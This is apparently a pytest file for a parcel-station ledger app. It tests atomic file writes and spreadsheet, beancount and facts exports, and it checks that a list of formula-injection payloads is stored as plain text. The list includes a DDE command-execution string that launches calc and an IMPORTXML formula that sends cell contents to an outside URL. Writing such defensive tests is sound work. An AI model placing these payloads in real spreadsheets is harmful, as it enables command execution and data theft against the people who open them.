"""Files: whole or not there, nothing written over; a workbook in which nothing is a formula."""

import json
import re
import subprocess
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter

from station_app import chores
from station_app.__main__ import main
from station_app.overview.ledger import workbook
from station_app.shell.files import NotWritten, put_file
from tests.ledger.test_export import accepted

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example","点")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "   @x",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "\u3000＝1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    "\u202e=1+1",
    "\u2028=1+1",
    "=",
    "-",
    "+8613800000000",
    "@",
    "{=SUM(1)}",
    "'=1+1",
    '=IMPORTXML(CONCAT("http://x",A1),"//a")',
    "http://x.example/",
    "00123",
)


def write_payloads(path):
    book = xlsxwriter.Workbook(str(path), workbook.OPTIONS)
    sheet = book.add_worksheet("x")
    money = book.add_format({"num_format": "#,##0.00"})
    for line, payload in enumerate(PAYLOADS):
        workbook.write_cell(sheet, (line, 0), payload, money)
        workbook.write_cell(sheet, (line, 1), Decimal("12.50"), money)
    book.close()


def formulas(path):
    """Cells that a program would work out, in the file as it lies there."""
    with zipfile.ZipFile(path) as parts:
        sheets = [name for name in parts.namelist() if name.startswith("xl/worksheets/")]
        return [name for name in sheets if re.search(rb"<f[ >/]", parts.read(name))]


def test_no_payload_becomes_a_formula_or_a_link(tmp_path):
    path = tmp_path / "x.xlsx"
    write_payloads(path)
    assert len(PAYLOADS) >= 30
    assert formulas(path) == []
    sheet = openpyxl.load_workbook(path)["x"]
    for line, payload in enumerate(PAYLOADS, 1):
        cell = sheet.cell(line, 1)
        assert cell.data_type == "s", payload
        assert cell.hyperlink is None
        assert not cell.value.lstrip().startswith(tuple("=+-@＝＋－＠")), payload
        assert sheet.cell(line, 2).value == 12.5
    assert sheet.cell(PAYLOADS.index("00123") + 1, 1).value == "00123"


def test_an_office_program_finds_no_formula_either(tmp_path):
    path = tmp_path / "x.xlsx"
    write_payloads(path)
    out = tmp_path / "out"
    run = subprocess.run(
        ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile",
         "--convert-to", "fods", "--outdir", str(out), str(path)],
        capture_output=True, text=True, timeout=100, check=False,
    )  # fmt: skip
    text = (out / "x.fods").read_text("utf-8")
    assert "table:formula" not in text, run.stderr
    assert text.count("12.5") >= len(PAYLOADS)


def writes(content):
    """Return what fills a file."""

    def write(path):
        path.write_bytes(content)

    return write


# --- Places --------------------------------------------------------------------------------------


def test_a_file_is_whole_and_writes_over_nothing(tmp_path):
    first = put_file(tmp_path / "村站", "账本.xlsx", writes(b"1"))
    second = put_file(tmp_path / "村站", "账本.xlsx", writes(b"2"))
    assert (first.name, second.name) == ("账本.xlsx", "账本 2.xlsx")
    assert (first.read_bytes(), second.read_bytes()) == (b"1", b"2")
    assert len(list((tmp_path / "村站").iterdir())) == 2


def test_a_stick_that_is_gone_is_not_made_anew(tmp_path):
    with pytest.raises(NotWritten) as no:
        put_file(tmp_path / "stick" / "村站", "x", writes(b"1"))
    assert no.value.reason == "gone"
    assert not (tmp_path / "stick").exists()


@pytest.mark.parametrize(("number", "reason"), [(28, "full"), (5, "gone"), (30, "closed")])
def test_trouble_leaves_nothing_half(tmp_path, number, reason):
    def write(path):
        path.write_bytes(b"half")
        raise OSError(number, "as the system says it")

    with pytest.raises(NotWritten) as no:
        put_file(tmp_path, "x", write)
    assert no.value.reason == reason
    assert list(tmp_path.iterdir()) == []


def test_a_full_disk_is_told_as_such(tmp_path):
    full = Path("/dev/full")

    def write(_path):
        with full.open("wb") as file:
            file.write(b"x" * 100_000)

    with pytest.raises(NotWritten) as no:
        put_file(tmp_path, "x", write)
    assert no.value.reason == "full"


# --- The command ---------------------------------------------------------------------------------


@pytest.fixture
def played(station):
    """A data folder with a day of work, closed for a command to open."""
    station.sign_in()
    station.open_shift()
    for number in range(3):
        station.hand_over(number, cod_fen=8_600 + number)
    return station


def test_three_files_by_command(played, tmp_path, capsys, monkeypatch):
    monkeypatch.setattr(chores, "opened", lambda _data, _key: played_open(played))
    for what in ("beancount", "facts", "xlsx"):
        out = tmp_path / f"out.{what}"
        said = main(["--data", str(tmp_path), "--json", "export", what, "--out", str(out)])
        told = json.loads(capsys.readouterr().out)
        assert said == 0
        assert told["what"] == what
        assert told["lines"] > 5
        assert out.stat().st_size > 500
    assert accepted((tmp_path / "out.beancount").read_text("utf-8"), tmp_path) == ""
    facts = (tmp_path / "out.facts").read_text("utf-8").splitlines()
    kinds = {json.loads(line)["kind"] for line in facts}
    assert {"shift.opened", "payment.taken"} <= kinds
    assert main(["--data", str(tmp_path), "export", "xlsx"]) == 2
    assert main(["--data", str(tmp_path), "export", "beancount"]) == 0
    assert "open Assets:Drawer:D1" in capsys.readouterr().out


class played_open:  # noqa: N801 - stands in for a function
    """Give the premises that are open already, and leave them open."""

    def __init__(self, station):
        self.station = station

    def __enter__(self):
        return self.station.premises

    def __exit__(self, *_):
        return None


def test_the_workbook_says_what_the_books_say(played, tmp_path):
    path = tmp_path / "books.xlsx"
    rows = chores.write_books(played.premises, path)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["日记账", "科目余额", "按人", "单据"]
    assert rows == sum(sheet.max_row - 1 for sheet in book)
    days = list(book["日记账"].iter_rows(min_row=2, values_only=True))
    yuan = [row for row in days if row[8] == "元"]
    assert round(sum(row[6] or 0 for row in yuan), 2) == round(sum(row[7] or 0 for row in yuan), 2)
    (count,) = played.connection.execute("SELECT count(*) FROM postings").fetchone()
    assert len(days) == count
    balances = {row[5]: row for row in book["科目余额"].iter_rows(min_row=2, values_only=True)}
    assert balances["Liabilities:Held:COD:ZTO:Here"][:5] == (
        "别人的钱", "代收货款 中通", None, 258.03, "元",
    )  # fmt: skip
    assert balances["Assets:Drawer:D1"][2:4] == ("没数", None)
    numbers = [row[2] for row in book["单据"].iter_rows(min_row=2, values_only=True)]
    assert played.printed("1") in numbers
    assert formulas(path) == []
    assert "示明" not in "".join(str(v) for row in days for v in row)


def test_a_sheet_of_the_books_prints_one_page_wide_under_its_heads(played, tmp_path):
    """On paper the day book fell into 28 pages of three columns each, with half the numbers cut."""
    path = tmp_path / "books.xlsx"
    chores.write_books(played.premises, path)
    for sheet in openpyxl.load_workbook(path):
        page = sheet.page_setup
        assert (page.orientation, page.fitToHeight) == ("landscape", 0)
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.print_title_rows == "$1:$1"
        for letter in "CD" if sheet.title in ("日记账", "单据") else "":
            width = sheet.column_dimensions[letter].width
            cells = [cell.value for cell in sheet[letter][1:]]
            assert width >= max(len(str(cell or "")) for cell in cells)
